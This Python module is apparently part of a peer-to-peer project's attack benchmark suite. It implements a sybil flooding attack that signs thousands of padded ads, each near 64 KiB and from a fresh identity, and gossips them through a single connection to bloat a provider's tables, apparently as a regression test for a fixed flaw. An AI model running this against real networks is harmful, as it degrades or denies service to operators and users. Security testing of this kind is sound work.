"""Issue 16, item 7: ads of thousands of fresh identities, to bloat every table.

Each sybil signs one ad padded to ``ad_bytes`` (an unknown field the parser ignores but the table kept
and served) and a gossip message of its own, so that no publisher sends more than one ad; all go out
through the attacker's one connection. Before the fix an ad could weigh 64 KiB and a table held
10,000 of them whoever brought them, and served them all in one answer.
"""

from __future__ import annotations

import os
import time

from garage_p2p.core.capabilities import AD_DOMAIN, TOPIC_CAPS, ModelOffer, make_ad
from garage_p2p.core.identity import Identity
from garage_p2p.daemon import Peer

from . import Target
from ._mesh import join_gossip, publish_as

VICTIM = "provider"
"""H, the provider (benchmarks/attacks.py)."""

SIGNATURE = 64


def padded_ad(sybil: Identity, ad_bytes: int) -> bytes:
    """A validly signed ad of ``sybil`` of about ``ad_bytes`` bytes."""
    ad = make_ad(sybil, seq=1, now=time.time(), ttl=300, addrs=(), models=(ModelOffer(name="sybil"),), version="x")
    payload = ad.model_dump_json(exclude_none=True).encode()
    padding = max(0, ad_bytes - SIGNATURE - len(payload) - len(',"pad":""'))
    payload = payload[:-1] + b',"pad":"' + b"p" * padding + b'"}'
    return sybil.sign(AD_DOMAIN + payload) + payload


async def attack(
    attacker: Peer, victim: Target, *, count: int = 2000, ad_bytes: int = 63_500
) -> dict[str, int | float | str]:
    """``count`` sybil ads of ``ad_bytes`` each, by gossip through one connection to ``victim``."""
    await join_gossip(attacker, victim, TOPIC_CAPS)
    sent = 0
    for _ in range(count):
        sybil = Identity.from_seed(os.urandom(32))
        wire = padded_ad(sybil, ad_bytes)
        await publish_as(attacker, sybil, TOPIC_CAPS, wire)
        sent += len(wire)
    return {"ads": count, "bytes": sent}
